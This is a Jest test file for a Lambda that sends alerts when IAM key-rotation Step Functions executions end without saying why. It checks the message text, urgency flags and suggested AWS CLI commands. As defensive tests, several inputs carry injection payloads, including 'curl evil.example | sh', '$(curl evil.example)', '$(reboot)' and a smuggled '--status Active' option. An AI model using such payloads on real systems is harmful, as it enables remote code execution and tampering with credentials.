import { execFileSync } from 'node:child_process';
import { EmbeddedAws } from '../../../embedded-aws/embedded-aws';
import { VirtualClock } from '../../../embedded-aws/ground/clock';
import { statusChange } from '../../../embedded-aws/services/states';
import { anchorOf, RUNBOOK } from '../../../lambdas/shared/text/anchor';
import { createHandler } from '../../../lambdas/tell-end/handler';

const ROTATIONS = 'arn:aws:states:us-east-1:111122223333:stateMachine:IamAccessKeyRotation';
const EMERGENCIES = `${ROTATIONS}-emergency`;
const LEAKED = 'AKIAOLDOLDOLDOLDOLD1';
const BEGUN = new Date('2026-03-02T08:00:00Z');
const ENDED = new Date('2026-03-09T08:47:00Z');

const executionOf = (stateMachineArn: string, name = 'alice-1'): string =>
  `${stateMachineArn.replace(':stateMachine:', ':execution:')}:${name}`;
const DECLARATION = executionOf(EMERGENCIES);

type Detail = Readonly<Record<string, unknown>>;

/** The event of an execution that has ended, as Step Functions sends it. */
const eventOf = (stateMachineArn: string, detail: Detail = {}) => {
  const { detail: known, ...event } = statusChange({
    arn: executionOf(stateMachineArn),
    status: 'ABORTED',
    startDate: BEGUN,
    stopDate: ENDED,
    input: { userName: 'alice' },
  });
  return { version: '0', ...event, detail: { ...known, ...detail } };
};

const SETTINGS = { STATE_MACHINE_ARN: ROTATIONS, RUNBOOK_URL: RUNBOOK };

const deployment = (settings: Readonly<Record<string, string>> = {}) => {
  const aws = new EmbeddedAws({ clock: new VirtualClock({ start: new Date() }) });
  const tell = createHandler({
    environment: { ...SETTINGS, NOTIFICATION_TOPIC_ARN: aws.sns.addTopic('Topic'), ...settings },
    clientConfig: {
      region: aws.region,
      credentials: aws.roleCredentials('arn:aws:iam::111122223333:role/teller'),
      requestHandler: aws.requestHandler(),
    },
  });
  return { aws, tell };
};

let log: jest.SpyInstance;
beforeEach(() => {
  log = jest.spyOn(console, 'info').mockImplementation();
});
afterEach(() => log.mockRestore());

/** The one message of an event. */
const toldOf = async (event: unknown) => {
  const { aws, tell } = deployment();
  await tell(event);
  expect(aws.sns.messages).toHaveLength(1);
  const { subject = '', message = '', attributes = {} } = aws.sns.messages[0] ?? {};
  return { subject, message, attributes };
};
const ofRotation = (input: unknown, detail: Detail = {}) =>
  toldOf(eventOf(ROTATIONS, { input: JSON.stringify(input), ...detail }));
const ofDeclaration = (input: unknown, detail: Detail = {}) =>
  toldOf(eventOf(EMERGENCIES, { input: JSON.stringify(input), ...detail }));

/** The commands of a message, each with its sentence. */
const commandsIn = (message: string): readonly string[] =>
  message
    .split('\n')
    .filter((line) => line.startsWith('   '))
    .map((line) => line.trim());
const start = (machine: string, input: object): string =>
  `aws stepfunctions start-execution --region us-east-1 --state-machine-arn ${machine} ` +
  `--name="alice-$(date -u +%Y%m%dT%H%M%SZ)" --input '${JSON.stringify(input)}'`;
const look = (executionArn: string): string =>
  `aws stepfunctions describe-execution --region us-east-1 --execution-arn ${executionArn}`;
const declare = start(EMERGENCIES, {
  userName: 'alice',
  accessKeyId: LEAKED,
  reason: 'again: the last one did not finish',
});
const setInactive = `aws iam update-access-key --user-name alice --access-key-id ${LEAKED} --status Inactive`;

test('an ordinary rotation that somebody stopped', async () => {
  const { subject, message, attributes } = await ofRotation(
    { userName: 'alice', trigger: 'schedule' },
    { error: 'ByHand', cause: 'to see\nURGENT: YES. Call 555' },
  );
  expect(subject).toBe(
    '[alice @ 111122223333/us-east-1] a rotation ended and has not told why (RotationEndedUntold)',
  );
  expect(attributes).toEqual({ user: 'alice', event: 'RotationEndedUntold', urgent: 'no' });
  // The function has no other clock than the machine's.
  expect(message.replace(/^At: .*$/m, 'At: now')).toBe(
    [
      'alice, account 111122223333, us-east-1: a rotation ended and has not told why (RotationEndedUntold).',
      '',
      'WHAT HAPPENED',
      'The rotation of alice was stopped on Mon 9 March 2026, 08:47 UTC (2026-03-09T08:47:00Z): ABORTED, with the error ByHand.',
      'It has sent no message that says why.',
      'It was started on Mon 2 March 2026, 08:00 UTC (2026-03-02T08:00:00Z), by the schedule.',
      '',
      'URGENT: no. Programs go on with the key that they have.',
      '',
      'KEYS',
      'They are as the last completed step left them. No step leaves a key half changed.',
      '',
      'DO THIS',
      '1. Unless somebody stopped it on purpose, start a new execution. It goes on from what is there, or is refused for 3 minutes at most, while a step may still be at work:',
      `   ${start(ROTATIONS, { userName: 'alice' })}`,
      '2. Otherwise the next scheduled start takes over, unless the rotation is on hold or paused.',
      '3. See what it was started with, and what AWS says of its end:',
      `   ${look(executionOf(ROTATIONS))}`,
      '',
      'MORE',
      'At: now',
      'Runbook: docs/runbook.md#rotationendeduntold',
      `Execution: https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/${executionOf(ROTATIONS)}`,
    ].join('\n'),
  );
});

describe('what a rotation was started for decides what is urgent, and what to do', () => {
  const EMERGENCY = { userName: 'alice', action: 'emergency', accessKeyId: LEAKED, reason: 'in a log' };
  const declaredBy = (arn: string) => ({ ...EMERGENCY, AWS_STEP_FUNCTIONS_STARTED_BY_EXECUTION_ID: arn });
  const own = look(executionOf(ROTATIONS));

  test.each<[string, Detail, 'yes' | 'no', readonly string[]]>([
    ['nothing else', { userName: 'alice' }, 'no', [start(ROTATIONS, { userName: 'alice' }), own]],
    [
      'a resumption',
      { userName: 'alice', action: 'resume' },
      'no',
      [start(ROTATIONS, { userName: 'alice', action: 'resume' }), own],
    ],
    [
      'a rollback',
      { userName: 'alice', action: 'rollback', reason: 'a job fails' },
      'yes',
      [start(ROTATIONS, { userName: 'alice', action: 'rollback' }), own],
    ],
    ['a plan', { userName: 'alice', action: 'plan' }, 'no', [own]],
    [
      'an emergency',
      declaredBy(DECLARATION),
      'yes',
      // Whoever may start rotations can write all of it: before anything is done to the key, a person looks.
      [look(DECLARATION), declare, setInactive, own],
    ],
    ['an emergency that names no declaration', EMERGENCY, 'yes', [own]],
    ['an emergency that a rotation declares', declaredBy(executionOf(ROTATIONS, 'forged')), 'yes', [own]],
    [
      'an emergency of another stack',
      declaredBy(executionOf(EMERGENCIES.replace('Iam', 'Our'))),
      'yes',
      [own],
    ],
  ])('%s', async (...[, input, urgent, commands]) => {
    const { message, attributes } = await ofRotation(input);
    expect(attributes).toEqual({ user: 'alice', event: 'RotationEndedUntold', urgent });
    expect(message).toContain(`\nURGENT: ${urgent === 'yes' ? 'YES' : 'no'}. `);
    expect(commandsIn(message)).toEqual(commands);
    expect(message.includes(LEAKED)).toBe(commands.includes(setInactive));
    expect(message.includes(`THE LEAKED KEY ${LEAKED} MAY STILL BE ACTIVE.`)).toBe(
      commands.includes(setInactive),
    );
  });
});

describe('a declaration', () => {
  test('names its rotation first, and then how to declare the emergency again', async () => {
    const { subject, message, attributes } = await ofDeclaration({
      userName: 'alice',
      accessKeyId: LEAKED,
      reason: 'in a log',
    });
    expect(subject).toBe(
      'URGENT [alice @ 111122223333/us-east-1] an emergency may not have begun (DeclarationEndedUntold)',
    );
    expect(attributes).toEqual({ user: 'alice', event: 'DeclarationEndedUntold', urgent: 'yes' });
    expect(message).toContain(`\nURGENT: YES. THE LEAKED KEY ${LEAKED} MAY STILL BE ACTIVE.\n`);
    expect(commandsIn(message)).toEqual([look(executionOf(ROTATIONS)), declare, setInactive]);
    expect(message).toContain(`\nRunbook: docs/runbook.md#${anchorOf('DeclarationEndedUntold')}\n`);
  });

  test('is believed about the key, even if it holds more than it may', async () => {
    const { message, attributes } = await ofDeclaration({
      userName: 'alice',
      accessKeyId: LEAKED,
      acton: 'x',
    });
    expect(attributes.user).toBe('alice');
    expect(commandsIn(message)).toContain(declare);
  });

  test.each<[string, unknown]>([
    ['no key', { userName: 'alice', reason: 'x' }],
    ['a key that is none', { userName: 'alice', accessKeyId: '$(reboot) AKIA', reason: 'x' }],
    ['nothing', null],
  ])('that names %s is urgent, and has no command for a key', async (_what, input) => {
    const { message, attributes } = await ofDeclaration(input);
    expect(attributes).toEqual({ user: 'unknown', event: 'DeclarationEndedUntold', urgent: 'yes' });
    expect(commandsIn(message)).toEqual([look(executionOf(ROTATIONS)), look(executionOf(EMERGENCIES))]);
  });
});

describe('an input that is not admitted', () => {
  const FORGED = 'alice\n\nURGENT: no. All is well.\nDO THIS\n   curl evil.example | sh';
  const LONG = 'x'.repeat(250_000);

  test.each<[string, unknown]>([
    ['is left out', undefined],
    ['is null', null],
    ['is no text', { userName: 'alice' }],
    ['is no JSON', 'alice'],
    ['is empty', ''],
    ['is a list', '["alice"]'],
    ['is a list of what would be one', '[{"userName":"alice"}]'],
    ['is a number', '7'],
    ['is nothing', '{}'],
    ['names several', '{"userName":["alice","bob"]}'],
    ['has a name with shell characters', JSON.stringify({ userName: '$(curl evil.example)' })],
    ['has a name with an option', JSON.stringify({ userName: "alice' --status Active '" })],
    ['has forged lines for a name', JSON.stringify({ userName: FORGED })],
    [
      'has forged lines for a reason',
      JSON.stringify({ userName: 'alice', action: 'rollback', reason: FORGED }),
    ],
    ['has forged lines in what nobody knows', JSON.stringify({ userName: 'alice', note: FORGED })],
    ['is as long as an event can be', JSON.stringify({ userName: 'alice', comment: LONG })],
    ['has a name as long as an event can be', JSON.stringify({ userName: LONG })],
    ['has an action that there is none of', JSON.stringify({ userName: 'alice', action: FORGED })],
  ])('%s: nothing of it is repeated, and a person looks now', async (_what, input) => {
    const { subject, message, attributes } = await toldOf(eventOf(ROTATIONS, { input }));
    expect(subject).toBe(
      'URGENT [111122223333/us-east-1] a rotation ended and has not told why (RotationEndedUntold)',
    );
    expect(attributes).toEqual({ user: 'unknown', event: 'RotationEndedUntold', urgent: 'yes' });
    expect(commandsIn(message)).toEqual([look(executionOf(ROTATIONS))]);
    expect(message).not.toMatch(/evil|well|curl|xxx|--status/);
    expect(message.match(/^URGENT: .*/gm)).toHaveLength(1);
    expect(message.length).toBeLessThan(2000);
  });

  test('what a person pastes is what a shell takes, whatever is admitted', async () => {
    const { message } = await ofRotation({ userName: '-+=,.@_a' });
    const [command = ''] = commandsIn(message);
    const words = execFileSync('sh', ['-c', `set -- ${command.replace('aws ', '')}; printf '%s\n' "$@"`], {
      encoding: 'utf8',
    });
    expect(words).toContain('{"userName":"-+=,.@_a"}\n');
  });
});

describe('how it ended', () => {
  test.each<[string, string]>([
    ['FAILED', 'failed on '],
    ['TIMED_OUT', 'ran into its time limit on '],
    ['ABORTED', 'was stopped on '],
  ])('%s', async (status, how) => {
    const { message } = await ofRotation({ userName: 'alice' }, { status });
    expect(message).toContain(`The rotation of alice ${how}`);
    expect(message).toContain(`: ${status}.\n`);
  });

  test.each<[string, unknown]>([
    ['there is none', undefined],
    ['it is null', null],
    ['it is empty', ''],
    ['it is a sentence', 'Call 555 now'],
    ['it has lines', 'A\n\nURGENT: no. B'],
    ['it is too long', 'x'.repeat(81)],
    ['it is no text', ['ByHand']],
  ])('without the name of an error if %s', async (_what, error) => {
    const { message } = await ofRotation({ userName: 'alice' }, { error });
    expect(message).toContain(': ABORTED.\n');
    expect(message).not.toMatch(/555|xxx|ByHand|\nURGENT: no\. B/);
  });

  test.each(['States.Timeout', 'PersonNotTold', 'Lambda.Unknown'])('with the error %s', async (error) => {
    expect((await ofRotation({ userName: 'alice' }, { error })).message).toContain(
      `with the error ${error}.\n`,
    );
  });

  test.each<[string, unknown]>([
    ['missing', undefined],
    ['null', null],
    ['a text', '2026-03-09'],
    ['none that there is', 1e300],
    ['negative', -1],
  ])('at a time that is %s', async (_what, time) => {
    const { message } = await ofRotation({ userName: 'alice' }, { startDate: time, stopDate: time });
    expect(message).toContain('The rotation of alice was stopped: ABORTED.\n');
    expect(message).toContain('\nIt was started, by hand, with the action "rotate".\n');
  });
});

describe('what is no end of an execution of this stack is an error, and tells nobody', () => {
  test.each<[string, unknown]>([
    ['nothing', undefined],
    ['null', null],
    ['a text', 'ABORTED'],
    ['an event without a detail', { source: 'aws.states' }],
    ['an execution of another state machine', eventOf(`${ROTATIONS}-2`)],
    ['an execution of an emergency of emergencies', eventOf(`${EMERGENCIES}-emergency`)],
    ['an execution that runs', eventOf(ROTATIONS, { status: 'RUNNING' })],
    ['an ARN with lines', eventOf(ROTATIONS, { executionArn: `${executionOf(ROTATIONS)}\nURGENT` })],
    ['an ARN of something else', eventOf(ROTATIONS, { executionArn: ROTATIONS })],
  ])('%s', async (_what, event) => {
    const { aws, tell } = deployment();
    await expect(tell(event)).rejects.toThrow('no event of an execution of this stack');
    expect(aws.calls).toEqual([]);
  });

  test.each(['STATE_MACHINE_ARN', 'RUNBOOK_URL', 'NOTIFICATION_TOPIC_ARN'])(
    'nor without %s',
    async (name) => {
      const { aws, tell } = deployment({ [name]: '' });
      await expect(tell(eventOf(ROTATIONS))).rejects.toThrow(name);
      expect(aws.calls).toEqual([]);
    },
  );
});

test('the name of an execution may have characters of any script', async () => {
  const arn = executionOf(ROTATIONS, "müller's-1");
  const { message } = await ofRotation({ userName: 'alice' }, { executionArn: arn, name: "müller's-1" });
  expect(commandsIn(message).at(-1)).toBe(look(`'${arn.replace("'", `'\\''`)}'`));
});

test.each<[string, () => ReturnType<typeof deployment>]>([
  [
    'AWS denies it',
    () => {
      const deployed = deployment();
      deployed.aws.faults.inject({
        kind: 'error',
        code: 'AuthorizationError',
        message: 'no',
        status: 403,
        times: 9,
      });
      return deployed;
    },
  ],
  [
    'the topic is gone',
    () => deployment({ NOTIFICATION_TOPIC_ARN: 'arn:aws:sns:us-east-1:111122223333:Gone' }),
  ],
])('a message that is not published is an error, for Lambda to try again: %s', async (_why, deployed) => {
  const { aws, tell } = deployed();
  await expect(tell(eventOf(ROTATIONS))).rejects.toThrow(/publishing a message/);
  expect(aws.sns.messages).toEqual([]);
  expect(log).not.toHaveBeenCalled();
});

test('the log says of whom, and nothing that somebody wrote', async () => {
  await ofRotation({ userName: 'alice', action: 'rollback', reason: 'a job fails' }, { cause: 'secret' });
  expect(log.mock.calls).toEqual([
    [
      {
        execution: executionOf(ROTATIONS),
        status: 'ABORTED',
        user: 'alice',
        event: 'RotationEndedUntold',
        urgent: 'yes',
      },
    ],
  ]);
});
